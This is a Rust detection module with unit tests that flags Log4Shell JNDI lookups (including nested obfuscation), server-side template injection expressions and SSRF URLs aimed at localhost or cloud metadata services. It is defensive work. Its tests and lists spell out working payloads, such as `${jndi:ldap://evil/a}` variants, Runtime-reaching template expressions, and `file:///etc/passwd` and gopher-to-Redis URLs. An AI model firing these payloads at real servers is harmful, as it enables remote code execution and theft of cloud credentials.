//! Payloads that a server evaluates rather than stores: Log4j lookups (Log4Shell, with the nested
//! lookups that hide `jndi`), template expressions (server-side template injection), and URLs
//! aimed at the host's own network (server-side request forgery).

use std::borrow::Cow;

/// Nesting of `${…}` resolved before giving up; real payloads use two or three.
const MAX_DEPTH: usize = 8;

/// A JNDI lookup in `v`, after resolving the lookups that spell it: `${${lower:j}ndi:…}`,
/// `${${::-j}${::-n}di:…}`, `${${env:X:-j}ndi:…}`, `${${date:'j'}ndi:…}`. Evidence is the
/// resolved text from the lookup on.
pub fn log4shell(v: &str) -> Option<String> {
    let at = v.find("${")?;
    let resolved = resolve(&v[at..], 0);
    let lower = resolved.to_ascii_lowercase();
    let hit = lower.find("${jndi:")?;
    Some(crate::detect::rules::shorten(&resolved[hit..], 120))
}

/// Replace each inner lookup that yields a fixed string by that string, innermost first.
fn resolve(s: &str, depth: usize) -> Cow<'_, str> {
    if depth >= MAX_DEPTH || !s.contains("${") {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(at) = rest.find("${") {
        out.push_str(&rest[..at]);
        let body_start = at + 2;
        let Some(len) = closing(&rest[body_start..]) else {
            out.push_str(&rest[at..]);
            return Cow::Owned(out);
        };
        let body = resolve(&rest[body_start..body_start + len], depth + 1);
        match value_of(&body) {
            Some(text) => out.push_str(&text),
            None => {
                out.push_str("${");
                out.push_str(&body);
                out.push('}');
            }
        }
        rest = &rest[body_start + len + 1..];
    }
    out.push_str(rest);
    Cow::Owned(out)
}

/// Length of the body up to its matching `}`.
fn closing(s: &str) -> Option<usize> {
    let mut depth = 0usize;
    for (i, c) in s.char_indices() {
        match c {
            '{' => depth += 1,
            '}' if depth == 0 => return Some(i),
            '}' => depth -= 1,
            _ => {}
        }
    }
    None
}

/// What a lookup body evaluates to, when it is one of the string-producing forms.
fn value_of(body: &str) -> Option<String> {
    let lower = body.to_ascii_lowercase();
    if let Some(x) = lower.strip_prefix("lower:") {
        return Some(x.to_string());
    }
    if let Some(x) = body.get(6..).filter(|_| lower.starts_with("upper:")) {
        return Some(x.to_ascii_uppercase());
    }
    if let Some(x) = body.get(5..).filter(|_| lower.starts_with("date:")) {
        return Some(x.trim_matches('\'').to_string());
    }
    if lower.starts_with("jndi:") {
        return None;
    }
    body.find(":-").map(|at| body[at + 2..].to_string())
}

/// A template expression a server-side engine would evaluate: arithmetic probes (`{{7*7}}`,
/// `${7*7}`, `#{7*7}`, `<%= 7*7 %>`), object walks (`{{''.__class__}}`, `{{config}}`,
/// `{{self}}`), Java expression language (`${T(java.lang.Runtime)}`), Velocity (`#set(`).
pub fn template_injection(v: &str) -> Option<&str> {
    for open in ["{{", "${", "#{", "*{", "@{", "<%=", "<%"] {
        let mut from = 0;
        while let Some(at) = v[from..].find(open).map(|a| a + from) {
            let body_start = at + open.len();
            let close = if open.starts_with('<') { "%>" } else { "}" };
            let end = v[body_start..].find(close).map_or(v.len(), |e| body_start + e);
            let body = v[body_start..end].trim_start_matches('{').trim();
            if evaluates(body, open == "{{") {
                return Some(&v[at..(end + close.len()).min(v.len())]);
            }
            from = body_start;
        }
    }
    if let Some(at) = v.find("#set(").or_else(|| v.find("#set (")) {
        return Some(&v[at..]);
    }
    None
}

/// The body computes something: `7*7`, a dunder, a call, a class walk, an engine's globals.
fn evaluates(body: &str, mustache: bool) -> bool {
    let b = body.as_bytes();
    let arithmetic = b.iter().enumerate().any(|(i, &c)| {
        c == b'*'
            && b[..i].iter().rev().find(|c| **c != b' ').is_some_and(|c| c.is_ascii_digit() || *c == b'\'')
            && b[i + 1..].iter().find(|c| **c != b' ').is_some_and(|c| c.is_ascii_digit() || *c == b'\'')
    });
    let lower = body.to_ascii_lowercase();
    let walks = ["__", "getclass", "t(java", "java.lang", "runtime", "processbuilder", "constructor", ".class"]
        .iter()
        .any(|w| lower.contains(w));
    let globals = mustache
        && ["config", "self", "request", "lipsum", "cycler", "joiner", "namespace", "range("]
            .iter()
            .any(|g| lower == *g || lower.starts_with(&format!("{g}.")) || lower.starts_with(&format!("{g}[")));
    arithmetic || walks || globals || (mustache && lower.contains('(') && lower.contains(')'))
}

/// Hosts that name the server's own machine or its cloud's metadata service.
const INTERNAL_HOSTS: &[&str] = &[
    "169.254.169.254",
    "metadata.google.internal",
    "metadata",
    "100.100.100.200",
    "169.254.170.2",
    "[fd00:ec2::254]",
    "localhost",
    "0.0.0.0",
    "0",
    "[::1]",
    "[::]",
    "[0:0:0:0:0:0:0:1]",
    "[::ffff:127.0.0.1]",
    "2130706433",
    "2852039166",
    "0x7f000001",
    "0xa9fea9fe",
    "017700000001",
    "0177.0.0.1",
    "0251.0376.0251.0376",
    "instance-data",
    "kubernetes.default.svc",
];

/// Schemes a server-side fetcher should never follow from user input.
const SCHEMES: &[&str] =
    &["file:", "gopher:", "dict:", "ldap:", "ldaps:", "jar:", "netdoc:", "tftp:", "expect:", "php:", "phar:", "sftp:"];

/// A URL in `v` (decoded, lower-cased) that points inside the server's own network, as evidence.
pub fn ssrf(v: &str) -> Option<&str> {
    let t = v.trim_start();
    if SCHEMES.iter().any(|s| t.starts_with(s)) {
        return Some(t);
    }
    let rest = t.strip_prefix("http://").or_else(|| t.strip_prefix("https://")).or_else(|| t.strip_prefix("//"))?;
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = if host_port.starts_with('[') {
        host_port.find(']').map_or(host_port, |e| &host_port[..=e])
    } else {
        host_port.split(':').next().unwrap_or(host_port)
    };
    let host = host.trim_end_matches('.');
    let internal = INTERNAL_HOSTS.contains(&host)
        || (host.starts_with("127.") && host.bytes().all(|c| c.is_ascii_digit() || c == b'.'))
        || host.starts_with("169.254.")
        || host.ends_with(".localhost")
        || host.ends_with(".internal");
    internal.then_some(t)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn jndi_lookups_are_found_through_nesting() {
        for v in [
            "${jndi:ldap://evil/a}",
            "${${lower:j}ndi:ldap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}",
            "${${lower:${lower:jndi}}:dns://x}",
            "${${upper:j}ndi:x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "a ${jNdI:ldap://x} b",
        ] {
            assert!(log4shell(v).is_some(), "{v:?} was missed");
        }
        for v in ["${HOME}", "${user.name}", "price ${5}", "${", "${a:-b}", "{jndi:}"] {
            assert_eq!(log4shell(v), None, "{v:?} was flagged");
        }
    }

    #[test]
    fn template_expressions_are_found() {
        for v in [
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "${{7*7}}",
            "{{7*'7'}}",
            "{{''.__class__.__mro__}}",
            "{{config}}",
            "{{self.__init__}}",
            "${T(java.lang.Runtime).getRuntime()}",
            "*{7*7}",
            "#set($x=1)",
            "{{constructor.constructor('alert(1)')()}}",
            "{{request.application}}",
        ] {
            assert!(template_injection(v).is_some(), "{v:?} was missed");
        }
        for v in ["{{name}}", "{\"a\":{\"b\":1}}", "${price}", "2*3", "hello {{ user }}", "#{id}", "{{ page_title }}"] {
            assert_eq!(template_injection(v), None, "{v:?} was flagged");
        }
    }

    #[test]
    fn urls_into_the_servers_network_are_found() {
        for v in [
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://127.0.0.1:6379/",
            "http://localhost/admin",
            "gopher://127.0.0.1:6379/_info",
            "file:///etc/passwd",
            "dict://x:11211/stat",
            "http://[::1]/",
            "http://2130706433/",
            "http://0x7f000001/",
            "http://user@127.0.0.1/",
            "https://app.localhost/",
        ] {
            assert!(ssrf(v).is_some(), "{v:?} was missed");
        }
        for v in ["https://example.com/", "http://10.0.0.5/", "/local/path", "localhost", "https://127.example.com/"] {
            assert_eq!(ssrf(v), None, "{v:?} was flagged");
        }
    }
}
